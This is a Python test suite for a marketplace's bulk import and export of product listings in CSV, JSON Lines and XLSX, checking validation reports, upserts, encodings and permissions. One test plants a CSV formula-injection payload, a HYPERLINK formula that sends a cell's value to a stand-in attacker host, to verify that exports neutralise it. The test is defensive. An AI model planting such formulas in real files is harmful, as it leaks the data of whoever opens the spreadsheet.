"""Bulk import and export of listings: all or nothing, a row-by-row report, files that round-trip."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest
from litestar.testing import AsyncTestClient
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from kernel.audit import AuditEntry
from kernel.outbox import OutboxEvent
from marketplace.catalog import bulk
from marketplace.catalog.models import Listing, ListingRevision
from tests.factories.catalog import create_listing
from tests.factories.compliance import submit_credential
from tests.factories.identity import Account, register
from tests.factories.organization import create_organization
from tests.factories.spreadsheets import workbook

Client = AsyncTestClient[Any]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

HEADER = (
    "sku,title[pl],description[pl],title[de],title[en],default_language,classification_scheme,"
    "classification_code,unit,pack_size,price_tiers,stock_on_hand,ships_to,lead_time_days"
)
GOOD_ROWS = [
    'CHLEB-1,Chleb żytni,"Na zakwasie, 800 g",Roggenbrot,Rye bread,pl,CPV,15811100-7,H87,1,'
    "1:12.50|50:11.00,120,PL|DE-SN,1",
    "MIOD-1,Miód lipowy,,Lindenhonig,Linden honey,pl,HS,0409.00,KGM,0.5,0.5:48.00|20:44.00,250,PL-02|DE-SN,3",
    "SER-1,Ser owczy,,Schafskäse,,pl,HS,0406.90,KGM,1,1:60|10:55,40.5,PL,2",
]


@pytest.fixture
async def producer(client: Client) -> tuple[Account, dict[str, Any]]:
    owner = await register(client)
    return owner, await create_organization(client, owner)


def csv_file(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


async def upload(client: Client, account: Account, organization: dict[str, Any], body: bytes, **params: str) -> Any:
    return await client.post(
        f"/api/v1/organizations/{organization['id']}/listings/import",
        content=body,
        params=params,
        headers={**account.headers, "Content-Type": "text/csv"},
    )


async def download(client: Client, account: Account, organization: dict[str, Any], file_format: str) -> Any:
    return await client.get(
        f"/api/v1/organizations/{organization['id']}/listings/export",
        params={"format": file_format},
        headers=account.headers,
    )


async def announced(sessions: async_sessionmaker[AsyncSession]) -> list[list[str]]:
    """The listing ids of each `ListingsImported` event, in the order written."""
    async with sessions() as session:
        payloads = await session.execute(
            select(OutboxEvent.payload)
            .where(OutboxEvent.topic == "marketplace.ListingsImported")
            .order_by(OutboxEvent.occurred_at, OutboxEvent.id)
        )
        return [payload["listing_ids"] for payload in payloads.scalars()]


#: Events of listings, not the ones of setting up their producer (its owner's verification mail).
LISTING_EVENTS = OutboxEvent.topic.like("marketplace.Listing%")


async def count(sessions: async_sessionmaker[AsyncSession], model: Any, *where: Any) -> int:
    async with sessions() as session:
        return (await session.execute(select(func.count()).select_from(model).where(*where))).scalar_one()


async def test_a_csv_file_becomes_listings_readable_in_each_language(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    response = await upload(client, owner, organization, csv_file(*GOOD_ROWS))
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["rows"], report["created"], report["updated"], report["dry_run"]) == (3, 3, 0, False)

    listed = await client.get(
        f"/api/v1/organizations/{organization['id']}/listings", params={"lang": "de"}, headers=owner.headers
    )
    by_sku = {item["sku"]: item for item in listed.json()["items"]}
    assert set(by_sku) == {"CHLEB-1", "MIOD-1", "SER-1"}
    bread = by_sku["CHLEB-1"]
    assert (bread["language"], bread["title"]) == ("de", "Roggenbrot")
    assert bread["translations"]["pl"] == {"title": "Chleb żytni", "description": "Na zakwasie, 800 g"}
    assert bread["price_tiers"] == [
        {"min_quantity": "1", "unit_price": "12.50"},
        {"min_quantity": "50", "unit_price": "11.00"},
    ]
    assert (bread["unit"], bread["ships_to"], bread["lead_time_days"]) == ("H87", ["PL", "DE-SN"], 1)
    assert bread["origin"]["country"] == "PL"  # the producer's seat when the file gives none
    assert by_sku["MIOD-1"]["classification"] == {"scheme": "HS", "code": "040900"}
    assert by_sku["SER-1"]["stock_on_hand"] == "40.5"
    assert set(by_sku["SER-1"]["translations"]) == {"pl", "de"}  # an empty title[en] is no translation

    versions = (await client.get(f"/api/v1/listings/{bread['id']}/versions", headers=owner.headers)).json()
    assert [(v["version"], v["change"]) for v in versions] == [(1, "created")]
    # One audit entry for the file, one event naming every listing for search and the rest.
    assert await count(sessions, AuditEntry, AuditEntry.action == "listing.import") == 1
    assert [sorted(ids) for ids in await announced(sessions)] == [sorted(item["id"] for item in by_sku.values())]


async def test_one_bad_row_rejects_the_whole_file_and_the_report_names_each_bad_row(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    bad_price = "JAJA-1,Jajka,,Eier,,pl,HS,0407.21,H87,1,1:1.20|30:-0.90,500,PL,0"
    bad_unit = "MLEKO-1,Mleko,,Milch,,pl,HS,0401.20,XYZ,1,1:3.10,80,PL,0"
    response = await upload(client, owner, organization, csv_file(GOOD_ROWS[0], bad_price, GOOD_ROWS[1], bad_unit))
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["type"].endswith("/import-rejected")
    assert "2 of 4 rows" in problem["detail"]
    assert "nothing was imported" in problem["detail"]
    assert [(e["row"], e["field"]) for e in problem["errors"]] == [(3, "price_tiers"), (5, "unit")]
    assert "price_tiers[1].unit_price" in problem["errors"][0]["message"]
    assert "XYZ" in problem["errors"][1]["message"]
    assert await count(sessions, Listing) == 0
    assert await count(sessions, OutboxEvent, LISTING_EVENTS) == 0
    assert await count(sessions, AuditEntry, AuditEntry.action == "listing.import") == 0


@pytest.mark.parametrize(
    ("row", "field", "message"),
    [
        ("X-1,Kasza,,,,pl,CPV,1234,KGM,1,1:5,1,PL,0", "classification_code", "CPV"),
        ("X-1,Kasza,,,,xx-QQ,HS,1904,KGM,1,1:5,1,PL,0", "default_language", "xx-QQ"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,-1,PL,0", "stock_on_hand", "negative"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,ZZ,0", "ships_to", "ZZ"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,5,1,PL,0", "price_tiers", "min_quantity:unit_price"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL,soon", "lead_time_days", "must be a whole number"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL,1e-400", "lead_time_days", "must be a whole number"),  # not 0
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1E+999999999,PL,0", "stock_on_hand", "must be less than"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,0.0001,PL,0", "stock_on_hand", "at most 3 decimal places"),
        ("X-1,Kasza\u202e,,,,pl,HS,1904,KGM,1,1:5,1,PL,0", "title[pl]", "invisible characters"),
        ("X-1,,opis,,,pl,HS,1904,KGM,1,1:5,1,PL,0", "title[pl]", "cannot be empty"),
        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL", "$", "cells"),
    ],
)
async def test_each_kind_of_bad_cell_is_reported_with_its_row_and_column(
    client: Client, producer: tuple[Account, dict[str, Any]], row: str, field: str, message: str
) -> None:
    owner, organization = producer
    response = await upload(client, owner, organization, csv_file(GOOD_ROWS[0], row))
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert (error["row"], error["field"]) == (3, field)
    assert message in error["message"]


async def test_a_sku_twice_in_the_file_or_already_listed_is_refused_in_create_mode(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    response = await upload(client, owner, organization, csv_file(GOOD_ROWS[0], GOOD_ROWS[1], GOOD_ROWS[0]))
    assert response.status_code == 422
    assert [(e["row"], e["field"], e["message"]) for e in response.json()["errors"]] == [
        (4, "sku", "CHLEB-1 is also on row 2")
    ]

    await create_listing(client, owner, organization, sku="MIOD-1")
    response = await upload(client, owner, organization, csv_file(GOOD_ROWS[0], GOOD_ROWS[1]))
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert (error["row"], error["field"]) == (3, "sku")
    assert "mode=upsert" in error["message"]
    assert await count(sessions, Listing) == 1


async def test_dry_run_reports_what_would_happen_and_writes_nothing(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    response = await upload(client, owner, organization, csv_file(*GOOD_ROWS), dry_run="true")
    assert response.status_code == 200
    report = response.json()
    assert (report["dry_run"], report["created"], report["import_id"]) == (True, 3, None)
    assert await count(sessions, Listing) == 0
    assert await count(sessions, OutboxEvent, LISTING_EVENTS) == 0

    # A dry run of a bad file reports exactly what the real import would.
    bad = await upload(client, owner, organization, csv_file("X-1,,,,,pl,HS,1904,KGM,1,1:5,1,PL,0"), dry_run="true")
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["row"] == 2


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
async def test_an_export_imports_unchanged_into_another_producer_and_is_a_no_op_for_its_own(
    client: Client, producer: tuple[Account, dict[str, Any]], file_format: str
) -> None:
    owner, organization = producer
    await upload(client, owner, organization, csv_file(*GOOD_ROWS))
    honey = await create_listing(
        client,
        owner,
        organization,
        origin={"country": "PL", "subdivision": "PL-02", "municipality": "Bogatynia"},
        image_urls=["https://img.example/honey.jpg"],
        status="paused",
    )
    exported = await download(client, owner, organization, file_format)
    assert exported.status_code == 200
    assert "attachment" in exported.headers["content-disposition"]

    again = await upload(client, owner, organization, exported.content, format=file_format, mode="upsert")
    assert again.status_code == 200, again.text
    assert (again.json()["unchanged"], again.json()["updated"], again.json()["created"]) == (4, 0, 0)
    reread = (await client.get(f"/api/v1/listings/{honey['id']}", headers=owner.headers)).json()
    assert reread["version"] == 1

    other_owner = await register(client)
    other = await create_organization(client, other_owner)
    copied = await upload(client, other_owner, other, exported.content, format=file_format)
    assert copied.status_code == 200, copied.text
    assert copied.json()["created"] == 4
    assert (await download(client, other_owner, other, file_format)).content == exported.content


async def test_a_formula_in_a_cell_is_exported_as_text_and_imported_back_as_it_was(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    """A title like =HYPERLINK(...) is a listing's text, never a formula in whoever opens the export."""
    owner, organization = producer
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Zioła")'
    texts = {"title[pl]": formula, "description[pl]": "-10% na start", "title[de]": "@Kräutertee", "title[en]": "+tea"}
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, [*HEADER.split(",")], lineterminator="\n")
    writer.writeheader()
    writer.writerow(dict(zip(HEADER.split(","), GOOD_ROWS[2].split(","), strict=True)) | texts)
    created = await upload(client, owner, organization, buffer.getvalue().encode())
    assert created.status_code == 200, created.text

    exported = await download(client, owner, organization, "csv")
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert row["title[pl]"] == "'" + formula
    assert (row["description[pl]"], row["title[de]"], row["title[en]"]) == ("'-10% na start", "'@Kräutertee", "'+tea")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    # Back from the spreadsheet: the apostrophe comes off, and nothing changed.
    again = await upload(client, owner, organization, exported.content, mode="upsert")
    assert again.status_code == 200, again.text
    assert (again.json()["unchanged"], again.json()["updated"]) == (1, 0)
    listings = (await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)).json()
    assert [item["title"] for item in listings["items"]] == [formula]


async def test_upsert_changes_only_what_changed_with_a_new_version(
    client: Client,
    producer: tuple[Account, dict[str, Any]],
    sessions: async_sessionmaker[AsyncSession],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    owner, organization = producer
    await upload(client, owner, organization, csv_file(*GOOD_ROWS))
    monkeypatch.setattr(bulk, "IMPORT_CHUNK", 1)  # each change staged and applied on its own
    rows = list(csv.DictReader(io.StringIO((await download(client, owner, organization, "csv")).text)))
    by_sku = {row["sku"]: row for row in rows}
    by_sku["MIOD-1"]["price_tiers"] = "0.5:46.00|20:42.00"
    by_sku["SER-1"]["title[en]"] = "Sheep cheese"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)

    response = await upload(client, owner, organization, buffer.getvalue().encode(), mode="upsert")
    assert response.status_code == 200, response.text
    assert (response.json()["updated"], response.json()["unchanged"]) == (2, 1)
    listed = await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)
    current = {item["sku"]: item for item in listed.json()["items"]}
    assert current["MIOD-1"]["version"] == 2
    assert current["MIOD-1"]["price_tiers"][0] == {"min_quantity": "0.5", "unit_price": "46.00"}
    assert current["SER-1"]["translations"]["en"]["title"] == "Sheep cheese"
    assert current["CHLEB-1"]["version"] == 1
    versions = (await client.get(f"/api/v1/listings/{current['MIOD-1']['id']}/versions", headers=owner.headers)).json()
    assert [(v["version"], v["change"], v["price_tiers"][0]["unit_price"]) for v in versions] == [
        (1, "created", "48.00"),
        (2, "imported", "46.00"),
    ]
    assert await count(sessions, ListingRevision) == 5


async def test_an_archived_listing_cannot_be_revived_by_import(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    owner, organization = producer
    await upload(client, owner, organization, csv_file(*GOOD_ROWS))
    listed = await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)
    bread = next(item for item in listed.json()["items"] if item["sku"] == "CHLEB-1")
    await client.post(f"/api/v1/listings/{bread['id']}/archive", headers=owner.headers)
    assert b"CHLEB-1" not in (await download(client, owner, organization, "csv")).content

    response = await upload(client, owner, organization, csv_file(GOOD_ROWS[0]), mode="upsert")
    assert response.status_code == 422
    assert "archived" in response.json()["errors"][0]["message"]


async def test_json_lines_report_the_line_and_the_json_path(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    good = {
        "sku": "MIOD-2",
        "translations": {"pl": {"title": "Miód gryczany"}},
        "default_language": "pl",
        "classification": {"scheme": "HS", "code": "0409"},
        "unit": "KGM",
        "price_tiers": [{"min_quantity": "1", "unit_price": "52.00"}],
        "stock_on_hand": "30",
        "ships_to": ["PL"],
    }
    lines = [
        json.dumps(good),
        "",
        json.dumps({**good, "sku": "MIOD-3", "stock_on_hand": "plenty"}),
        "{not json",
        json.dumps({**good, "sku": "MIOD-4", "price_tiers": [{"min_quantity": "1", "unit_price": "0"}]}),
    ]
    response = await upload(client, owner, organization, "\n".join(lines).encode(), format="jsonl")
    assert response.status_code == 422
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [
        (3, "$.stock_on_hand"),
        (4, "$"),
        (5, "$.price_tiers[0].unit_price"),
    ]
    assert await count(sessions, Listing) == 0


async def test_credentials_of_another_organization_cannot_be_attached_by_import(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    owner, organization = producer
    stranger = await register(client)
    their_credential = await submit_credential(client, stranger, await create_organization(client, stranger))
    header = HEADER + ",credential_ids"
    row = GOOD_ROWS[0] + f",{their_credential['id']}"
    response = await upload(client, owner, organization, csv_file(row, header=header))
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert (error["row"], error["field"]) == (2, "credential_ids")


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (HEADER + ",colour", "unknown column"),
        (HEADER.replace(",unit,", ","), "unit"),
        (HEADER.replace("title[pl],", "").replace("title[de],", "").replace("title[en],", ""), "title"),
        (HEADER + ",sku", "twice"),
    ],
)
async def test_a_bad_header_is_reported_on_row_1(
    client: Client, producer: tuple[Account, dict[str, Any]], header: str, message: str
) -> None:
    owner, organization = producer
    response = await upload(client, owner, organization, csv_file(header=header))
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error["row"] == 1
    assert message in error["message"]


async def test_empty_files_and_files_of_no_text_are_refused(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    owner, organization = producer
    empty = await upload(client, owner, organization, b"")
    assert empty.status_code == 422
    assert "empty" in empty.json()["detail"]
    header_only = await upload(client, owner, organization, csv_file())
    assert header_only.status_code == 422
    assert "no listings" in header_only.json()["detail"]
    # 0x81 and 0x90 are neither UTF-8 nor defined in windows-1250 or windows-1252.
    binary = await upload(client, owner, organization, csv_file(GOOD_ROWS[1]).replace("ó".encode(), b"\x81\x90"))
    assert binary.status_code == 422
    assert "UTF-8" in binary.json()["detail"]
    old_excel = await upload(client, owner, organization, bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 512)
    assert old_excel.status_code == 422
    assert ".xls" in old_excel.json()["detail"]


async def test_a_50_mb_file_is_refused_with_413_and_nothing_is_written(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    row = GOOD_ROWS[1].encode() + b"\n"
    body = csv_file() + row * (50 * 1024 * 1024 // len(row))
    response = await upload(client, owner, organization, body)
    assert response.status_code == 413
    assert response.json()["type"].endswith("/request-too-large")
    assert await count(sessions, Listing) == 0


async def test_only_members_of_a_producer_import_and_export(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    await upload(client, owner, organization, csv_file(*GOOD_ROWS))
    outsider = await register(client)
    assert (await upload(client, outsider, organization, csv_file(GOOD_ROWS[0]))).status_code == 404
    assert (await download(client, outsider, organization, "csv")).status_code == 404

    buyer_owner = await register(client)
    buyer = await create_organization(client, buyer_owner, kind="buyer")
    refused = await upload(client, buyer_owner, buyer, csv_file(GOOD_ROWS[0]))
    assert refused.status_code == 403
    assert refused.json()["type"].endswith("/not-a-producer")
    assert await count(sessions, Listing) == 3


async def test_a_bad_row_after_chunks_were_written_still_leaves_nothing_behind(
    client: Client,
    producer: tuple[Account, dict[str, Any]],
    sessions: async_sessionmaker[AsyncSession],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    owner, organization = producer
    monkeypatch.setattr(bulk, "IMPORT_CHUNK", 2)
    extra = [f"KASZA-{i},Kasza {i},,,,pl,HS,1904,KGM,1,1:5,1,PL,0" for i in range(3)]
    bad_last = "KASZA-X,Kasza,,,,pl,HS,1904,KGM,1,1:5,-1,PL,0"
    response = await upload(client, owner, organization, csv_file(*GOOD_ROWS, *extra, bad_last))
    assert response.status_code == 422
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(8, "stock_on_hand")]
    assert await count(sessions, Listing) == 0
    assert await count(sessions, ListingRevision) == 0
    assert await count(sessions, OutboxEvent, LISTING_EVENTS) == 0

    # A SKU repeated in a later chunk is caught too; a clean file spanning chunks is written whole.
    repeated = await upload(client, owner, organization, csv_file(*GOOD_ROWS, *extra, GOOD_ROWS[0]))
    assert [(e["row"], e["message"]) for e in repeated.json()["errors"]] == [(8, "CHLEB-1 is also on row 2")]
    accepted = await upload(client, owner, organization, csv_file(*GOOD_ROWS, *extra))
    assert accepted.json()["created"] == 6
    assert await count(sessions, Listing) == 6
    # One event per written chunk of two, together naming all six.
    chunks = await announced(sessions)
    assert [len(ids) for ids in chunks] == [2, 2, 2]
    assert len({i for ids in chunks for i in ids}) == 6


#: The columns a person types numbers in (codes such as 0409.00 are typed as text, as the template asks).
NUMBER_COLUMNS = {"pack_size", "stock_on_hand", "lead_time_days"}


def xlsx_file(*rows: str, header: str = HEADER) -> bytes:
    """The CSV rows as a workbook's first sheet, numbers as number cells."""
    columns = header.split(",")
    return workbook(
        columns,
        ([_typed(column, cell) for column, cell in zip(columns, line, strict=True)] for line in csv.reader(rows)),
    )


def _typed(column: str, cell: str) -> object:
    if column in NUMBER_COLUMNS and cell:
        return float(cell) if "." in cell else int(cell)
    return cell or None


async def test_an_xlsx_workbook_imports_by_its_content_type_and_exports_back_unchanged(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    owner, organization = producer
    response = await client.post(
        f"/api/v1/organizations/{organization['id']}/listings/import",
        content=xlsx_file(*GOOD_ROWS),
        headers={**owner.headers, "Content-Type": XLSX},
    )
    assert response.status_code == 200, response.text
    assert (response.json()["format"], response.json()["created"]) == ("xlsx", 3)
    listed = await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)
    by_sku = {item["sku"]: item for item in listed.json()["items"]}
    assert by_sku["SER-1"]["stock_on_hand"] == "40.5"  # the number cell 40.5, exactly
    assert by_sku["MIOD-1"]["pack_size"] == "0.5"
    assert by_sku["CHLEB-1"]["translations"]["pl"] == {"title": "Chleb żytni", "description": "Na zakwasie, 800 g"}

    exported = await download(client, owner, organization, "xlsx")
    assert exported.status_code == 200
    assert exported.headers["content-type"] == XLSX
    assert exported.headers["content-disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content), read_only=True).worksheets[0]
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["sku", "CHLEB-1", "MIOD-1", "SER-1"]
    again = await upload(client, owner, organization, exported.content, format="xlsx", mode="upsert")
    assert again.status_code == 200, again.text
    assert (again.json()["unchanged"], again.json()["updated"]) == (3, 0)


async def test_a_bad_row_of_a_workbook_is_reported_on_the_row_the_spreadsheet_shows(
    client: Client, producer: tuple[Account, dict[str, Any]], sessions: async_sessionmaker[AsyncSession]
) -> None:
    owner, organization = producer
    bad_price = "JAJA-1,Jajka,,Eier,,pl,HS,0407.21,H87,1,1:1.20|30:-0.90,500,PL,0"
    response = await upload(client, owner, organization, xlsx_file(GOOD_ROWS[0], bad_price), format="xlsx")
    assert response.status_code == 422
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(3, "price_tiers")]
    assert await count(sessions, Listing) == 0


async def test_a_semicolon_csv_in_windows_1250_imports_with_its_polish_letters(
    client: Client, producer: tuple[Account, dict[str, Any]]
) -> None:
    owner, organization = producer
    row = "ZUREK-1;Żurek śląski;Zażółć gęślą jaźń;Sauerteigsuppe;;pl;HS;2104;KGM;0,5;0,5:12,50;40,5;PL;1"
    body = (HEADER.replace(",", ";") + "\r\n" + row + "\r\n").encode("cp1250")
    response = await upload(client, owner, organization, body)
    assert response.status_code == 200, response.text
    listed = await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)
    [soup] = listed.json()["items"]
    assert soup["translations"]["pl"] == {"title": "Żurek śląski", "description": "Zażółć gęślą jaźń"}
    assert (soup["pack_size"], soup["stock_on_hand"], soup["price_tiers"][0]["unit_price"]) == ("0.5", "40.5", "12.50")
